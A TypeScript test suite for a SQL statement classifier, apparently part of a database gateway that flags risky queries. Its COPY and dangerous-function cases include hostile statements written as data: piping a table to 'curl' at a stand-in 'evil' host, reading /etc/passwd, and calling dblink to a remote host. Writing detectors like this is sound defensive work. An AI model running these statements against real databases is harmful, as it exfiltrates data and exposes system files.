import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import {
  classifySql,
  initSqlParser,
  type ClassifiedStatement,
  type StatementKind,
} from '../../../../src/server/sql/index.js';
import { parserSettled } from '../../../../src/server/sql/parser.js';

before(() => initSqlParser());

/** The one statement `sql` holds; fails the test if it does not parse to exactly one. */
function one(sql: string): ClassifiedStatement {
  const result = classifySql(sql);
  assert.ok(result.ok, `did not parse: ${sql} (${JSON.stringify(result)})`);
  assert.equal(result.statements.length, 1, sql);
  return result.statements[0]!;
}

interface Case {
  sql: string;
  kinds: StatementKind[];
  tables?: string[];
  functions?: string[];
  dangerous?: string[];
  writes?: boolean;
  check?: (s: ClassifiedStatement) => void;
}

function runCases(cases: Case[]): void {
  for (const c of cases) {
    it(c.sql, () => {
      const s = one(c.sql);
      assert.deepEqual(s.kinds, c.kinds, 'kinds');
      if (c.tables) assert.deepEqual([...s.tables].sort(), [...c.tables].sort(), 'tables');
      if (c.functions)
        assert.deepEqual([...s.functions].sort(), [...c.functions].sort(), 'functions');
      if (c.dangerous) {
        assert.deepEqual([...s.dangerousFunctions].sort(), [...c.dangerous].sort(), 'dangerous');
      }
      if (c.writes !== undefined) assert.equal(s.writes, c.writes, 'writes');
      c.check?.(s);
    });
  }
}

describe('classifySql: one case per statement kind', () => {
  runCases([
    { sql: 'select * from t', kinds: ['select'], tables: ['t'], writes: false },
    { sql: 'values (1), (2)', kinds: ['select'], tables: [], writes: false },
    { sql: 'table t', kinds: ['select'], tables: ['t'] },
    { sql: 'insert into t (a) values (1)', kinds: ['insert'], tables: ['t'], writes: true },
    { sql: 'insert into t default values', kinds: ['insert'], tables: ['t'] },
    { sql: 'update t set a = 1 where id = 2', kinds: ['update'], tables: ['t'], writes: true },
    { sql: 'delete from t where id = 1', kinds: ['delete'], tables: ['t'], writes: true },
    {
      sql: 'merge into t using s on t.id = s.id when matched then update set a = s.a when not matched then insert values (s.id, s.a)',
      kinds: ['merge', 'update', 'insert'],
      tables: ['t', 's'],
      writes: true,
    },
    {
      sql: 'merge into t using s on t.id = s.id when matched then delete',
      kinds: ['merge', 'delete'],
    },
    { sql: 'create table x (id int primary key)', kinds: ['ddl'], tables: ['x'], writes: true },
    { sql: 'alter table x add column b text', kinds: ['ddl'], tables: ['x'], writes: true },
    { sql: 'alter table x drop column b', kinds: ['ddl', 'drop'], tables: ['x'] },
    { sql: 'create index on x (lower(b))', kinds: ['ddl'], tables: ['x'], functions: ['lower'] },
    { sql: 'create view v as select * from t', kinds: ['ddl', 'select'], tables: ['v', 't'] },
    { sql: 'create table x as select * from t', kinds: ['ddl', 'select'], tables: ['x', 't'] },
    { sql: 'select * into x from t', kinds: ['ddl', 'select'], tables: ['x', 't'], writes: true },
    { sql: 'create sequence s', kinds: ['ddl'], tables: ['s'] },
    { sql: 'create schema app', kinds: ['ddl'], tables: [] },
    { sql: 'refresh materialized view mv', kinds: ['ddl'], tables: ['mv'] },
    { sql: 'comment on table t is $$x$$', kinds: ['ddl'] },
    { sql: 'alter table t rename to u', kinds: ['ddl'], tables: ['t'] },
    {
      sql: 'create trigger trg before insert on t for each row execute function f()',
      kinds: ['ddl'],
      tables: ['t'],
    },
    {
      sql: 'create rule r as on insert to t do instead delete from u',
      kinds: ['ddl', 'delete'],
      tables: ['t', 'u'],
    },
    { sql: 'drop table a.b, c', kinds: ['drop'], tables: ['a.b', 'c'], writes: true },
    { sql: 'drop view if exists v cascade', kinds: ['drop'], tables: ['v'] },
    { sql: 'drop index i', kinds: ['drop'], tables: ['i'] },
    { sql: 'drop trigger trg on s.t', kinds: ['drop'], tables: ['s.t'] },
    { sql: 'drop function f(int)', kinds: ['drop'], tables: [] },
    { sql: 'drop schema app cascade', kinds: ['drop'], tables: [] },
    { sql: 'drop database app', kinds: ['drop'] },
    { sql: 'drop role bob', kinds: ['drop', 'grant'] },
    {
      sql: 'truncate a, s.b restart identity',
      kinds: ['truncate'],
      tables: ['a', 's.b'],
      writes: true,
    },
    { sql: 'grant select on t to bob', kinds: ['grant'], tables: ['t'], writes: true },
    { sql: 'revoke all on t from bob', kinds: ['grant'], tables: ['t'] },
    { sql: 'grant admin to bob', kinds: ['grant'] },
    { sql: 'revoke admin from bob', kinds: ['grant'] },
    { sql: 'alter default privileges grant select on tables to bob', kinds: ['grant'] },
    { sql: 'create role bob login', kinds: ['ddl', 'grant'] },
    { sql: 'alter role bob superuser', kinds: ['ddl', 'grant'] },
    { sql: 'alter table t owner to bob', kinds: ['ddl'], tables: ['t'] },
    { sql: 'alter function f() owner to bob', kinds: ['ddl', 'grant'] },
    { sql: 'create policy p on t using (true)', kinds: ['ddl', 'grant'], tables: ['t'] },
    { sql: 'call p(1)', kinds: ['call'], functions: ['p'], writes: true },
    { sql: 'call app.p(now())', kinds: ['call'], functions: ['app.p', 'now'] },
    { sql: 'begin', kinds: ['transaction'], writes: false },
    { sql: 'start transaction isolation level serializable', kinds: ['transaction'] },
    { sql: 'commit', kinds: ['transaction'] },
    { sql: 'rollback', kinds: ['transaction'] },
    { sql: 'savepoint a', kinds: ['transaction'] },
    { sql: 'rollback to savepoint a', kinds: ['transaction'] },
    { sql: 'set constraints all deferred', kinds: ['transaction'] },
    {
      sql: 'set statement_timeout = 1000',
      kinds: ['set'],
      writes: false,
      check: (s) => assert.equal(s.roleChange, false),
    },
    { sql: 'set role admin', kinds: ['set'], check: (s) => assert.equal(s.roleChange, true) },
    { sql: 'set local role admin', kinds: ['set'], check: (s) => assert.equal(s.roleChange, true) },
    { sql: 'reset role', kinds: ['set'], check: (s) => assert.equal(s.roleChange, true) },
    {
      sql: "set session authorization 'bob'",
      kinds: ['set'],
      check: (s) => assert.equal(s.roleChange, true),
    },
    { sql: 'reset all', kinds: ['set'], check: (s) => assert.equal(s.roleChange, true) },
    { sql: 'discard all', kinds: ['set'], check: (s) => assert.equal(s.roleChange, true) },
    { sql: 'discard plans', kinds: ['set'], check: (s) => assert.equal(s.roleChange, false) },
    { sql: 'show search_path', kinds: ['show'], writes: false },
    {
      sql: 'prepare p(int) as delete from t where id = $1',
      kinds: ['prepare', 'delete'],
      tables: ['t'],
    },
    { sql: 'prepare q as select * from t', kinds: ['prepare', 'select'], writes: false },
    {
      sql: 'execute p(1)',
      kinds: ['execute'],
      writes: true,
      check: (s) => assert.equal(s.prepared, 'p'),
    },
    { sql: 'deallocate p', kinds: ['prepare'] },
    {
      sql: 'create table x as execute p',
      kinds: ['ddl', 'execute'],
      check: (s) => assert.equal(s.prepared, 'p'),
    },
    { sql: 'lock table t in access exclusive mode', kinds: ['lock'], tables: ['t'], writes: false },
    { sql: 'select * from t for update', kinds: ['select', 'lock'], tables: ['t'] },
    { sql: 'vacuum full t', kinds: ['vacuum'], tables: ['t'], writes: true },
    { sql: 'analyze t', kinds: ['vacuum'], tables: ['t'] },
    { sql: 'cluster t using i', kinds: ['vacuum'], tables: ['t'] },
    { sql: 'reindex table t', kinds: ['vacuum'], tables: ['t'] },
    { sql: 'checkpoint', kinds: ['vacuum'] },
    { sql: 'listen ch', kinds: ['listen'], writes: false },
    { sql: 'unlisten *', kinds: ['listen'] },
    { sql: "notify ch, 'x'", kinds: ['notify'], writes: false },
    {
      sql: 'declare c cursor with hold for select * from t',
      kinds: ['cursor', 'select'],
      tables: ['t'],
    },
    { sql: 'fetch 10 from c', kinds: ['cursor'] },
    { sql: 'close c', kinds: ['cursor'] },
    {
      sql: "load 'auto_explain'",
      kinds: ['utility'],
      dangerous: ['load'],
      writes: true,
    },
    {
      sql: "alter system set work_mem = '1GB'",
      kinds: ['ddl'],
      dangerous: ['alter system'],
      check: (s) => assert.equal(s.roleChange, false),
    },
    { sql: 'create extension dblink', kinds: ['ddl'] },
  ]);
});

describe('classifySql: nested and data-modifying statements', () => {
  runCases([
    {
      sql: 'with d as (delete from t returning *) select * from d',
      kinds: ['select', 'delete'],
      tables: ['t'],
      writes: true,
    },
    {
      sql: 'with u as (update t set a = 1 returning id), i as (insert into log select id from u) select count(*) from u',
      kinds: ['select', 'update', 'insert'],
      tables: ['t', 'log'],
      functions: ['count'],
    },
    {
      // A DML target is never a CTE (PostgreSQL's setTargetTable): `x` here is the real table.
      sql: 'with x as (select 1) delete from x',
      kinds: ['delete', 'select'],
      tables: ['x'],
    },
    {
      // A non-recursive CTE cannot see itself: the inner `x` is a table.
      sql: 'with x as (select * from x) select * from x',
      kinds: ['select'],
      tables: ['x'],
    },
    {
      sql: 'with recursive r(n) as (select 1 union all select n + 1 from r where n < 5) select * from r',
      kinds: ['select'],
      tables: [],
    },
    {
      sql: 'with a as (select * from t1), b as (select * from a join t2 using (id)) select * from b',
      kinds: ['select'],
      tables: ['t1', 't2'],
    },
    {
      sql: 'select * from (with q as (select * from t) select * from q) s, q',
      kinds: ['select'],
      tables: ['t', 'q'],
    },
    {
      sql: 'update t set a = (select max(a) from s)',
      kinds: ['update', 'select'],
      tables: ['t', 's'],
    },
    { sql: 'insert into t select * from s', kinds: ['insert', 'select'], tables: ['t', 's'] },
    { sql: 'update t set a = s.a from s where s.id = t.id', kinds: ['update'], tables: ['t', 's'] },
    { sql: 'delete from t using s where s.id = t.id', kinds: ['delete'], tables: ['t', 's'] },
    {
      sql: 'insert into t values (1) on conflict (id) do update set a = excluded.a returning pg_backend_pid()',
      kinds: ['insert'],
      tables: ['t'],
      functions: ['pg_backend_pid'],
    },
    {
      sql: 'select * from a join b on a.id = b.id left join c.d on true where a.x in (select x from e)',
      kinds: ['select'],
      tables: ['a', 'b', 'c.d', 'e'],
    },
    {
      sql: 'select 1 union select a from t except select b from u',
      kinds: ['select'],
      tables: ['t', 'u'],
    },
    {
      sql: 'select * from t where exists (select 1 from u where u.id = t.id)',
      kinds: ['select'],
      tables: ['t', 'u'],
    },
    {
      sql: 'create function f() returns setof t language sql begin atomic delete from t returning *; end',
      kinds: ['ddl', 'delete'],
      tables: ['t'],
      check: (s) => assert.equal(s.opaque, false),
    },
  ]);
});

describe('classifySql: EXPLAIN', () => {
  runCases([
    {
      sql: 'explain delete from t',
      kinds: ['explain'],
      tables: ['t'],
      writes: false,
      check: (s) => assert.deepEqual(s.planned, ['delete']),
    },
    {
      sql: 'explain analyze delete from t',
      kinds: ['explain', 'delete'],
      writes: true,
      check: (s) => assert.equal(s.planned, undefined),
    },
    { sql: 'explain (analyze, buffers) update t set a = 1', kinds: ['explain', 'update'] },
    { sql: 'explain (analyze true) delete from t', kinds: ['explain', 'delete'] },
    { sql: 'explain (analyze on) delete from t', kinds: ['explain', 'delete'] },
    { sql: 'explain (analyze 1) delete from t', kinds: ['explain', 'delete'] },
    { sql: 'explain (analyze false) delete from t', kinds: ['explain'], writes: false },
    { sql: 'explain (analyze off) delete from t', kinds: ['explain'] },
    { sql: 'explain (analyze 0) delete from t', kinds: ['explain'] },
    { sql: 'explain (format json) select * from t', kinds: ['explain'], tables: ['t'] },
    {
      sql: 'explain analyze execute p',
      kinds: ['explain', 'execute'],
      check: (s) => assert.equal(s.prepared, 'p'),
    },
    {
      sql: 'explain select pg_read_file($$/etc/passwd$$)',
      kinds: ['explain'],
      dangerous: ['pg_read_file'],
    },
  ]);
});

describe('classifySql: DO blocks and function bodies are analysed', () => {
  runCases([
    {
      sql: "do $$ begin execute 'drop table t'; end $$",
      kinds: ['do', 'drop'],
      tables: ['t'],
      writes: true,
      check: (s) => assert.deepEqual(s.unknown, []),
    },
    {
      sql: "do language plpgsql 'begin null; end'",
      kinds: ['do'],
      check: (s) => assert.equal(s.opaque, false),
    },
    {
      sql: 'create function f() returns int language plpgsql as $$ begin delete from t; return 1; end $$',
      kinds: ['ddl', 'delete'],
      tables: ['t'],
    },
    {
      sql: "create or replace procedure p() language sql as 'delete from t'",
      kinds: ['ddl', 'delete'],
      tables: ['t'],
    },
    {
      sql: 'create function g(a int default pg_cancel_backend(1)) returns int language sql return a',
      kinds: ['ddl'],
      dangerous: ['pg_cancel_backend'],
      check: (s) => assert.equal(s.opaque, false),
    },
    {
      sql: "create function h() returns int language plpython3u as 'return 1'",
      kinds: ['ddl', 'dynamic'],
      check: (s) => {
        assert.equal(s.opaque, true);
        assert.deepEqual(s.unknown, [
          {
            reason: 'language',
            message:
              'runs code in language plpython3u (a function body), which the gateway cannot analyse',
          },
        ]);
      },
    },
    { sql: 'select 1', kinds: ['select'], check: (s) => assert.equal(s.opaque, false) },
  ]);
});

describe('classifySql: COPY', () => {
  runCases([
    {
      sql: 'copy t to stdout',
      kinds: ['copy', 'copy_to_stdout', 'select'],
      tables: ['t'],
      writes: false,
      check: (s) =>
        assert.deepEqual(s.copy, {
          direction: 'out',
          program: false,
          serverFile: false,
          out: { format: 'text', header: false, describe: 'select * from "t"' },
        }),
    },
    {
      sql: 'copy t (a, b) from stdin with (format csv)',
      kinds: ['copy', 'copy_from_stdin', 'insert'],
      tables: ['t'],
      writes: true,
      check: (s) =>
        assert.deepEqual(s.copy, { direction: 'in', program: false, serverFile: false }),
    },
    {
      sql: 'copy (select * from t join u using (id)) to stdout',
      kinds: ['copy', 'copy_to_stdout', 'select'],
      tables: ['t', 'u'],
      writes: false,
    },
    {
      sql: 'copy (delete from t returning *) to stdout',
      kinds: ['copy', 'copy_to_stdout', 'delete'],
      tables: ['t'],
      writes: true,
    },
    {
      sql: "copy t to program 'curl -d @- http://evil'",
      kinds: ['copy', 'copy_to_program', 'select'],
      dangerous: ['copy program'],
      writes: true,
      check: (s) =>
        assert.deepEqual(s.copy, { direction: 'out', program: true, serverFile: false }),
    },
    {
      sql: "copy t from program 'cat /etc/passwd'",
      kinds: ['copy', 'copy_from_program', 'insert'],
      dangerous: ['copy program'],
      check: (s) => assert.equal(s.copy?.direction, 'in'),
    },
    {
      sql: "copy t from '/etc/passwd'",
      kinds: ['copy', 'copy_from_file', 'insert'],
      dangerous: ['copy file'],
      check: (s) => assert.deepEqual(s.copy, { direction: 'in', program: false, serverFile: true }),
    },
    {
      sql: "copy (select 1) to '/tmp/x'",
      kinds: ['copy', 'copy_to_file', 'select'],
      dangerous: ['copy file'],
      writes: true,
    },
  ]);
});

describe('classifySql: functions and dangerous functions in every position', () => {
  runCases([
    {
      sql: "select pg_read_file('/etc/passwd')",
      kinds: ['select'],
      functions: ['pg_read_file'],
      dangerous: ['pg_read_file'],
    },
    {
      sql: 'select * from t where pg_terminate_backend(pid) and id = 1',
      kinds: ['select'],
      dangerous: ['pg_terminate_backend'],
    },
    {
      sql: 'select * from t where id in (select pg_cancel_backend(pid) from pg_stat_activity)',
      kinds: ['select'],
      tables: ['t', 'pg_stat_activity'],
      dangerous: ['pg_cancel_backend'],
    },
    {
      sql: "select * from t, lateral pg_ls_dir('.') d",
      kinds: ['select'],
      tables: ['t'],
      dangerous: ['pg_ls_dir'],
    },
    {
      sql: "select * from pg_catalog.pg_stat_file('x')",
      kinds: ['select'],
      functions: ['pg_catalog.pg_stat_file'],
      dangerous: ['pg_catalog.pg_stat_file'],
    },
    {
      sql: "select * from t order by pg_read_binary_file('x')",
      kinds: ['select'],
      dangerous: ['pg_read_binary_file'],
    },
    {
      sql: "select a from t group by a having bool_or(set_config('role', 'admin', false) is null)",
      kinds: ['select', 'set'],
      functions: ['bool_or', 'set_config'],
      dangerous: ['set_config'],
    },
    {
      sql: "insert into t values (lo_import('/etc/passwd'))",
      kinds: ['insert'],
      dangerous: ['lo_import'],
    },
    {
      sql: "update t set a = 1 returning lo_export(a, '/tmp/x')",
      kinds: ['update', 'select'],
      dangerous: ['lo_export'],
    },
    {
      sql: "create table x (a text default pg_read_file('/etc/passwd'))",
      kinds: ['ddl'],
      dangerous: ['pg_read_file'],
    },
    {
      sql: "alter table x add column c text default pg_catalog.pg_read_file('x')",
      kinds: ['ddl'],
      dangerous: ['pg_catalog.pg_read_file'],
    },
    {
      sql: 'create table x (a int check (pg_reload_conf()))',
      kinds: ['ddl'],
      dangerous: ['pg_reload_conf'],
    },
    {
      sql: "select * from dblink('host=evil', 'select 1') as r(a int)",
      kinds: ['select'],
      dangerous: ['dblink'],
    },
    {
      // A constant command is classified: dblink may reach this very server.
      sql: "select dblink_exec('drop table t')",
      kinds: ['select', 'drop'],
      tables: ['t'],
      dangerous: ['dblink_exec'],
    },
    {
      sql: 'select pg_switch_wal(), pg_promote(), pg_rotate_logfile()',
      kinds: ['select'],
      dangerous: ['pg_switch_wal', 'pg_promote', 'pg_rotate_logfile'],
    },
    {
      sql: "select query_to_xml('delete from t', true, false, '')",
      kinds: ['select', 'delete'],
      tables: ['t'],
      dangerous: ['query_to_xml'],
    },
    {
      sql: 'select count(*) over (partition by lower(a)) from t',
      kinds: ['select'],
      functions: ['count', 'lower'],
      dangerous: [],
    },
    {
      sql: "select * from t where a = any(select unnest(string_to_array('a,b', ',')))",
      kinds: ['select'],
      functions: ['unnest', 'string_to_array'],
    },
    {
      sql: "values (pg_read_file('x'))",
      kinds: ['select'],
      dangerous: ['pg_read_file'],
    },
    {
      // A same-named function in another schema is flagged too: err towards holding.
      sql: "select public.pg_read_file('x')",
      kinds: ['select'],
      dangerous: ['public.pg_read_file'],
    },
    {
      // Quoted and upper-case is another function in PostgreSQL; reported as written.
      sql: 'select "PG_READ_FILE"(1), NOW()',
      kinds: ['select'],
      functions: ['PG_READ_FILE', 'now'],
      dangerous: [],
    },
  ]);
});

describe('classifySql: table names', () => {
  runCases([
    { sql: 'select * from Customers', kinds: ['select'], tables: ['customers'] },
    { sql: 'select * from "Customers"', kinds: ['select'], tables: ['Customers'] },
    { sql: 'select * from Public.Customers', kinds: ['select'], tables: ['public.customers'] },
    { sql: 'select * from app."Orders"', kinds: ['select'], tables: ['app.Orders'] },
    { sql: 'select * from db.app.t', kinds: ['select'], tables: ['db.app.t'] },
    { sql: 'select * from "a.b"', kinds: ['select'], tables: ['"a.b"'] },
    { sql: 'select * from "we""ird"', kinds: ['select'], tables: ['"we""ird"'] },
    { sql: 'select * from only t', kinds: ['select'], tables: ['t'] },
    { sql: 'select * from t tablesample system (10)', kinds: ['select'], tables: ['t'] },
    {
      sql: 'select * from customers c for update of c',
      kinds: ['select', 'lock'],
      tables: ['customers'],
    },
    {
      sql: 'select * from t1, t1 as again, (select * from t2) s',
      kinds: ['select'],
      tables: ['t1', 't2'],
    },
    {
      sql: 'create table c (id int references p (id), like tmpl)',
      kinds: ['ddl'],
      tables: ['c', 'p', 'tmpl'],
    },
    {
      sql: 'alter table parent attach partition child for values in (1)',
      kinds: ['ddl'],
      tables: ['parent', 'child'],
    },
    {
      sql: 'select * from xmltable($$/a$$ passing (select x from docs) columns b text)',
      kinds: ['select'],
      tables: ['docs'],
    },
  ]);
});

describe('classifySql: query strings', () => {
  it('returns no statements for an empty or blank string, or only comments', () => {
    for (const sql of ['', '   ', '\n\t', '-- nothing', '/* nothing */', ';', ' ; ; ']) {
      assert.deepEqual(classifySql(sql), { ok: true, statements: [] }, JSON.stringify(sql));
    }
  });

  it('returns one entry per statement, each with its own text', () => {
    const result = classifySql(
      "select 'é' from a;\n  delete from b where x = ';' ;\n-- tail\ndrop table c",
    );
    assert.ok(result.ok);
    assert.deepEqual(
      result.statements.map((s) => [s.text, s.kinds, s.tables]),
      [
        ["select 'é' from a", ['select'], ['a']],
        ["delete from b where x = ';'", ['delete'], ['b']],
        ['-- tail\ndrop table c', ['drop'], ['c']],
      ],
    );
  });

  it('keeps texts right after multi-byte characters', () => {
    const result = classifySql('select \'日本語🙂\'; select "Tâble" from "Ünï"');
    assert.ok(result.ok);
    assert.deepEqual(
      result.statements.map((s) => s.text),
      ["select '日本語🙂'", 'select "Tâble" from "Ünï"'],
    );
    assert.deepEqual(result.statements[1]!.tables, ['Ünï']);
  });

  it('refuses unparseable SQL with PostgreSQL’s 1-based position', () => {
    const result = classifySql('select * from t where');
    assert.deepEqual(result, {
      ok: false,
      reason: 'syntax',
      error: { message: 'syntax error at end of input', position: 22 },
      text: 'select * from t where',
    });
    const near = classifySql('select 1; selec 2');
    assert.ok(!near.ok);
    assert.equal(near.error.message, 'syntax error at or near "selec"');
    assert.equal(near.error.position, 11);
  });

  it('counts the error position in characters, not bytes', () => {
    const result = classifySql("select 'é' from where");
    assert.ok(!result.ok);
    assert.equal(result.error.position, 17);
  });

  it('refuses the whole string when one statement does not parse', () => {
    const result = classifySql('select 1; drop tabel t');
    assert.equal(result.ok, false);
  });

  it('refuses a string with a NUL byte instead of classifying what precedes it', () => {
    const result = classifySql('select 1\0; drop table t');
    assert.deepEqual(result, {
      ok: false,
      reason: 'syntax',
      error: { message: 'query contains a NUL byte', position: 9 },
      text: 'select 1\0; drop table t',
    });
  });

  it('refuses a tree too deep to walk rather than guessing', async () => {
    const sum = (n: number): string => `select ${Array.from({ length: n }, () => '1').join(' + ')}`;
    const shallow = classifySql(sum(900));
    assert.ok(shallow.ok);
    assert.deepEqual(shallow.statements[0]!.kinds, ['select']);
    // 5,000 nested operators pass the depth limit, 30,000 exhaust the parser's own stack.
    for (const n of [5_000, 30_000]) {
      const deep = classifySql(sum(n));
      assert.ok(!deep.ok, `${n} terms`);
      assert.equal(deep.error.code, 'HOOP_SQL_TOO_DEEP');
    }
    await parserSettled();
  });
});

describe('classifySql: fingerprint', () => {
  const fp = (sql: string): string => one(sql).fingerprint;

  it('is 16 bytes of hex', () => {
    assert.match(fp('select 1'), /^[0-9a-f]{32}$/);
  });

  it('is equal for statements differing only in constants, whitespace, case and comments', () => {
    const same = [
      ['select * from t where id = 1', 'SELECT *  FROM t WHERE id=2'],
      [
        "select * from t where name = 'a' limit 10",
        "select * from T where NAME = 'bb' /* c */ limit 5",
      ],
      ['insert into t values (1, $$x$$)', "INSERT INTO t VALUES (2, 'y')"],
      ['update t set a = 1.5 where b', 'update t set a = -3 where b'],
      ['select 1', '  select\n2  '],
    ];
    for (const [a, b] of same) assert.equal(fp(a!), fp(b!), `${a} vs ${b}`);
  });

  it('differs when anything but constants differs', () => {
    const different = [
      ['select * from t where id = 1', 'select * from u where id = 1'],
      ['select * from t where id = 1', 'select * from t where id > 1'],
      ['select * from t where id = 1', 'select * from "T" where id = 1'],
      ['select a from t', 'select b from t'],
      ['select * from t where id = $1', 'select * from t where id = $2'],
      ['delete from t', 'select * from t'],
      ['select * from t where id in (1, 2)', 'select * from t where id in (1)'],
    ];
    for (const [a, b] of different) assert.notEqual(fp(a!), fp(b!), `${a} vs ${b}`);
  });

  it('classifies a 200-character statement in well under a millisecond', () => {
    const sql =
      "select c.id, c.name, o.total from public.customers c join orders o on o.customer_id = c.id where c.created_at > now() - interval '7 days' and o.status in ('paid', 'shipped') order by o.total desc limit 50";
    assert.ok(sql.length >= 200);
    for (let i = 0; i < 200; i++) classifySql(sql);
    const runs = 2000;
    const start = performance.now();
    for (let i = 0; i < runs; i++) classifySql(sql);
    const perCall = (performance.now() - start) / runs;
    // Measured on the development machine: about 0.13 ms per call (parse 0.07, walk 0.02, fingerprint 0.05). No assertion: machines differ.
    console.log(`classifySql, ${sql.length} chars: ${perCall.toFixed(3)} ms per call`);
  });
});
